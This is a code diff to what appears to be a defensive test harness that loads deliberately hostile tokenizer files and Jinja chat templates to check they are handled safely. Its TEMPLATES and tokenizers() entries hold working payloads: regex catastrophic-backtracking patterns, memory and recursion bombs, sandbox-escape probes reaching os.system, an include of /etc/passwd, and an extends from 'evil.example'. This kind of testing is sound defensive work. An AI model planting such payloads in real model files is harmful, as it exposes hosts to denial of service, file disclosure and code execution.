@@ -140,6 +140,84 @@ def configurations(canary: Path) -> dict[str, tuple[str, dict]]:
     }
 
 
+def tokenizers() -> dict[str, dict | bytes]:
+    """What stands in the place of parts of a `tokenizer.json`, or of all of it."""
+
+    def split(regex: str) -> dict:
+        return {
+            "pre_tokenizer": {
+                "type": "Split",
+                "pattern": {"Regex": regex},
+                "behavior": "Isolated",
+                "invert": False,
+            }
+        }
+
+    def replace(content: str, regex: str = "") -> dict:
+        pattern = {"Regex": regex} if regex else {"String": "a"}
+        return {"type": "Replace", "pattern": pattern, "content": content}
+
+    template = {"type": "TemplateProcessing", "single": [], "pair": [], "special_tokens": {}}
+    token = {"SpecialToken": {"id": "x", "type_id": 0}}
+    return {
+        "a pattern that explodes": split("^(a+)+$"),
+        "a pattern that explodes by its choices": split("(a|a)*b"),
+        "a pattern that explodes by counts": split("([^b]{1,90}){2,90}b"),
+        "a pattern that is none": split("((("),
+        "a pattern without an end": split("a?" * 5000),
+        "a normaliser whose pattern explodes": {"normalizer": replace("b", "(.*)*x")},
+        "a normaliser that writes a megabyte for a letter": {"normalizer": replace("x" * 1_000_000)},
+        "normalisers that multiply each other": {
+            "normalizer": {"type": "Sequence", "normalizers": [replace("a" * 10)] * 7}
+        },
+        "a normaliser that puts a book before each text": {"normalizer": {"type": "Prepend", "prepend": "b" * 100_000}},
+        "a table of characters that is none": {
+            "normalizer": {"type": "Precompiled", "precompiled_charsmap": "AAAA/////w=="}
+        },
+        "a normaliser of an unknown kind": {"normalizer": {"type": "Evil"}},
+        "a hundred thousand tokens around a text": {"post_processor": {**template, "single": [token] * 100_000}},
+        "a token that stands for a hundred thousand": {
+            "post_processor": {
+                **template,
+                "single": [token],
+                "special_tokens": {"x": {"id": "x", "ids": [1] * 100_000, "tokens": ["x"] * 100_000}},
+            }
+        },
+        "depth": b'{"normalizer":' + b"[" * 200_000,
+        "half a file": b'{"version": "1.0", "model": {"type": "WordPi',
+        "a list": b"[]",
+        "no text": b"\xff\xfe\x00",
+        "a vocabulary beyond the network's": {"added_tokens": [
+            {"id": 40_000 + number, "content": f"w{number}", "single_word": False, "lstrip": False, "rstrip": False,
+             "normalized": False, "special": False} for number in range(40_000)
+        ]},
+    }  # fmt: skip
+
+
+TEMPLATES = {
+    "loops without an end": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
+    "calls itself twice": "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(200) }}",
+    "calls itself without an end": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
+    "doubles a text": "{% set n = namespace(x='xx') %}{% for a in range(60) %}{% set n.x=n.x~n.x %}{% endfor %}{{ n.x }}",
+    "fills a list": "{% set n = namespace(x=[1]) %}{% for a in range(60) %}{% set n.x = n.x + n.x %}{% endfor %}{{ n.x }}",
+    "pads a text": "{{ 'x'.center(99999999999) }}",
+    "pads by a format": "{{ '%99999999999d' % 1 }}",
+    "multiplies a text": "{{ 'x' * 99999999999 }}",
+    "takes a power": "{{ 9 ** 9 ** 9 }}",
+    "counts too far": "{{ range(9999999999) | list }}",
+    "asks for classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "asks for globals": "{{ raise_exception.__globals__['os'].system('true') }}",
+    "asks for globals of a macro": "{% macro f() %}{% endmacro %}{{ f.__globals__ }}{{ f._func.__code__.co_consts }}",
+    "asks through a format": "{{ '{0.__class__.__mro__}'.format(1) }}",
+    "changes what it was given": "{{ messages.append(messages) }}{{ messages.clear() }}",
+    "includes a file": "{% include '/etc/passwd' %}",
+    "imports": "{% import 'os' as os %}{{ os.system('true') }}",
+    "extends": "{% extends 'http://evil.example/x' %}",
+    "is none": "{% for x in %}{{",
+}
+"""Chat templates that would read what they shall not, or outlast everybody."""
+
+
 def with_right_digests(model: Path) -> None:
     """What an attacker does who can write the whole folder."""
     place = model / "model.json"
@@ -202,6 +280,30 @@ def main() -> None:
         with_right_digests(place)
         tried(f"model: {case}", lambda place=place: shelf_of_folder(place, "m"))
         tried(f"registry: {case}", lambda place=place: add_model(registry, "m", place))
+    for case, changes in tokenizers().items():
+        place = folder / hashlib.sha256(f"tokenizer {case}".encode()).hexdigest()[:12]
+        shutil.copytree(checkpoint, place)
+        asked = json.loads((place / "tokenizer_config.json").read_text())
+        (place / "tokenizer_config.json").write_text(
+            json.dumps(
+                {**asked, "tokenizer_class": "PreTrainedTokenizerFast"}
+            )  # which takes the file as it is
+        )
+        path = place / "tokenizer.json"
+        whole = json.loads(path.read_text())
+        path.write_bytes(changes if isinstance(changes, bytes) else json.dumps({**whole, **changes}).encode())
+        tried(f"tokenizer: {case}", lambda place=place: load_tokenizer(resolve_checkpoint(str(place))))
+    from headwinds.adapt import bounded_rendering
+    from headwinds.adapt.conversations import segments_of
+    from headwinds.adapt.tasks.written_examples import Turn
+
+    tokenizer = load_tokenizer(resolve_checkpoint(str(checkpoint)))
+    tokenizer.eos_token = tokenizer.eos_token or tokenizer.sep_token
+    bounded_rendering.rendered_within.__kwdefaults__["seconds"] = 0.5
+    for case, template in TEMPLATES.items():
+        tokenizer.chat_template = template
+        turns = [Turn("user", "hello"), Turn("assistant", "you")]
+        tried(f"template: {case}", lambda turns=turns: segments_of(tokenizer, turns))
     for case, (name, changes) in configurations(canary).items():
         for kind, source, within in (("checkpoint", checkpoint, ""), ("model", model, "encoder/")):
             place = folder / hashlib.sha256(f"{kind} {case}".encode()).hexdigest()[:12]
